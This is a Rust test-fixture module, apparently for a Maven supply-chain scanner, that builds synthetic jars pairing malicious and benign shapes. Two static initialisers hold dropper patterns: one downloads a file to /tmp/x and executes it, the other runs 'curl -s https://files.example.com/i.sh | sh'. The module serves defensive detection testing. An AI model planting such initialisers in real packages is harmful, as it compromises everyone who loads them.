use super::{Shapes, release};
use bifocal_core::{Ecosystem, Release};
use bifocal_testkit::jvm_class::{Step, class_file};
use bifocal_testkit::{MavenPackage, Upstream};

fn put(upstream: &Upstream, package: MavenPackage) -> Release {
    let release = release(Ecosystem::Maven, &package.name(), package.version());
    upstream.publish(package);
    release
}

fn jar(name: &str) -> MavenPackage {
    MavenPackage::new(&format!("com.example.shapes:{name}"), "1.0.0")
}

pub(crate) fn publish(upstream: &Upstream) -> Shapes {
    let mut shapes = Shapes::default();
    let put = |package| put(upstream, package);

    shapes.add(
        "a static initialiser fetches a program and runs it",
        put(jar("dropper").file(
            "com/example/shapes/Dropper.class",
            class_file(
                "com/example/shapes/Dropper",
                "<clinit>",
                &[
                    Step::New("java/net/URL"),
                    Step::Text("https://files.example.com/x"),
                    Step::Special("java/net/URL", "<init>", "(Ljava/lang/String;)V"),
                    Step::Virtual("java/net/URL", "openStream", "()Ljava/io/InputStream;"),
                    Step::Text("/tmp/x"),
                    Step::Texts(&[]),
                    Step::Static("java/nio/file/Paths", "get", "(Ljava/lang/String;[Ljava/lang/String;)Ljava/nio/file/Path;"),
                    Step::Texts(&[]),
                    Step::Static("java/nio/file/Files", "copy", "(Ljava/io/InputStream;Ljava/nio/file/Path;[Ljava/nio/file/CopyOption;)J"),
                    Step::Pop,
                    Step::Static("java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;"),
                    Step::Text("/tmp/x"),
                    Step::Virtual("java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;"),
                    Step::Pop,
                ],
            ),
        )),
        put(jar("constants").file(
            "com/example/shapes/Constants.class",
            class_file(
                "com/example/shapes/Constants",
                "<clinit>",
                &[
                    Step::New("java/util/HashMap"),
                    Step::Special("java/util/HashMap", "<init>", "()V"),
                    Step::Pop,
                    Step::Text("com.example.level"),
                    Step::Static("java/lang/System", "getProperty", "(Ljava/lang/String;)Ljava/lang/String;"),
                    Step::Pop,
                ],
            ),
        )),
    );
    shapes.add(
        "a static initialiser pipes a download into a shell",
        put(jar("shell").file(
            "com/example/shapes/Shell.class",
            class_file(
                "com/example/shapes/Shell",
                "<clinit>",
                &[
                    Step::Static("java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;"),
                    Step::Texts(&["sh", "-c", "curl -s https://files.example.com/i.sh | sh"]),
                    Step::Virtual("java/lang/Runtime", "exec", "([Ljava/lang/String;)Ljava/lang/Process;"),
                    Step::Pop,
                ],
            ),
        )),
        put(jar("native-loader").file(
            "com/example/shapes/NativeLoader.class",
            class_file(
                "com/example/shapes/NativeLoader",
                "<clinit>",
                &[Step::Text("example_native"), Step::Static("java/lang/System", "loadLibrary", "(Ljava/lang/String;)V")],
            ),
        )),
    );
    let named = put(jar("recorded"));
    shapes.malware.push(named.clone());
    shapes.add("an artifact that a malware record names", named, put(jar("unrecorded")));
    let replaced = put(jar("replaced"));
    shapes.replaced.push(replaced.clone());
    shapes.add("a jar that is not what its checksum file says", replaced, put(jar("unchanged")));
    shapes
}
